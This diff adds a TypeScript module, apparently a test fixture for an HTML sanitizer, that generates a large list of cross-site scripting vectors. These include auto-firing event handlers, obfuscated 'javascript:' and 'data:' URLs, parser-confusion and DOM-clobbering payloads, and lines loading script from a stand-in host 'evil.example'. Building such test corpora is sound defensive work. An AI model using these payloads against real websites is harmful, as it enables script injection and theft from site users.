@@ -1,0 +1,120 @@
+// The known ways of getting a script into a page, as they stand in the usual collections: every tag with every handler that
+// fires by itself, every spelling of a script address, and those that rely on how a browser mends broken HTML.
+
+/** What a vector would run. No page may ever hold it as a property of an element. */
+const RUN = 'window.xss=1';
+
+const FIRING: readonly (readonly [tag: string, attributes: string])[] = [
+  ['img', 'src=x'],
+  ['img', 'src=/placeholder.svg'],
+  ['image', 'href=x'],
+  ['video', 'src=x autoplay'],
+  ['audio', 'src=x autoplay'],
+  ['source', 'src=x'],
+  ['svg', ''],
+  ['body', ''],
+  ['iframe', 'src=about:blank'],
+  ['object', 'data=x'],
+  ['embed', 'src=x'],
+  ['input', 'autofocus'],
+  ['select', 'autofocus'],
+  ['textarea', 'autofocus'],
+  ['keygen', 'autofocus'],
+  ['details', 'open'],
+  ['marquee', ''],
+  ['a', 'href=# autofocus'],
+  ['p', 'tabindex=1 autofocus'],
+  ['style', ''],
+  ['link', 'rel=stylesheet href=x'],
+  ['math', ''],
+];
+const HANDLERS = 'onerror onload onfocus onfocusin ontoggle onstart onloadstart onanimationstart onpointerenter'.split(
+  ' ',
+);
+const SPELLINGS: readonly ((tag: string, rest: string, on: string) => string)[] = [
+  (tag, rest, on) => `<${tag} ${rest} ${on}=${RUN}>`,
+  (tag, rest, on) => `<${tag.toUpperCase()}/${rest.replaceAll(' ', '/')}/${on.toUpperCase()}="${RUN}"//`,
+];
+
+const ADDRESSES = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  ` \u0001javascript:${RUN}`,
+  `java\tscript:${RUN}`,
+  `java\nscript:${RUN}`,
+  `java\u0000script:${RUN}`,
+  `&#106;&#97;vascript:${RUN}`,
+  `&#x6A&#x61vascript:${RUN}`,
+  `&#0000106avascript:${RUN}`,
+  `javascript&colon;${RUN}`,
+  `java&Tab;script:${RUN}`,
+  `java&NewLine;script:${RUN}`,
+  `javascript://%0a${RUN}`,
+  `vbscript:${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  'data:text/html;base64,PHNjcmlwdD53aW5kb3cueHNzPTE8L3NjcmlwdD4=',
+  `data:image/svg+xml,<svg onload=${RUN}>`,
+  `blob:${RUN}`,
+  `filesystem:${RUN}`,
+  'view-source:x',
+  '//evil.example/x.js',
+  '/\\evil.example/x.js',
+  '\\\\evil.example',
+];
+const HOLDERS = [
+  (url: string) => `<a href="${url}">x</a>`,
+  (url: string) => `<a href='${url}'>x`,
+  (url: string) => `<img src="${url}">`,
+  (url: string) => `<iframe src="${url}"></iframe>`,
+  (url: string) => `<form action="${url}"><button formaction="${url}">x</button></form>`,
+  (url: string) => `<svg><a xlink:href="${url}"><text>x</text></a></svg>`,
+  (url: string) => `<base href="${url}"><p style="background:url('${url}')">x</p>`,
+];
+
+const BROKEN = [
+  `<script>${RUN}</script>`,
+  `<script src=//evil.example/x.js></script>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<<script>${RUN}//<</script>`,
+  `<script\n>${RUN}</script\n>`,
+  `<script/xss>${RUN}</script>`,
+  `</script><script>${RUN}</script>`,
+  `<!--><script>${RUN}</script>-->`,
+  `<!--<img src="--><img src=x onerror=${RUN}//">`,
+  `<![CDATA[<script>${RUN}</script>]]>`,
+  `<?xml version="1.0"?><script>${RUN}</script>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<title><p title="</title><img src=x onerror=${RUN}>">`,
+  `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
+  `<style><p title="</style><img src=x onerror=${RUN}>">`,
+  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
+  `<template><img src=x onerror=${RUN}></template>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
+  `<table><td background="javascript:${RUN}">x`,
+  `<img """><script>${RUN}</script>">`,
+  `<img src="x" alt="\`onerror=${RUN}">`,
+  `<img src=x alt=" onerror=${RUN} ">`,
+  `<a title='"><img src=x onerror=${RUN}>'>x</a>`,
+  `<p/onclick=${RUN} style=animation-name:x>x`,
+  `<div style="width:expression(${RUN})">x`,
+  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
+  `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
+  `<svg><script href="data:,${RUN}"/></svg>`,
+  `<svg><animate xlink:href=#x attributeName=href values="javascript:${RUN}"/><a id=x>x</a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
+  `<isindex action="javascript:${RUN}" type=image>`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
+  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
+  `＜script＞${RUN}＜/script＞`,
+  `<a href="https://example.com" onmouseover=${RUN} id=__proto__ name=constructor>x</a>`,
+  `<img name=getElementById><img id=xss><form id=document><input name=body>`,
+];
+
+export const xssVectors: readonly string[] = [
+  ...FIRING.flatMap(([tag, rest]) => HANDLERS.flatMap((on) => SPELLINGS.map((spell) => spell(tag, rest, on)))),
+  ...ADDRESSES.flatMap((url) => HOLDERS.map((hold) => hold(url))),
+  ...BROKEN,
+];
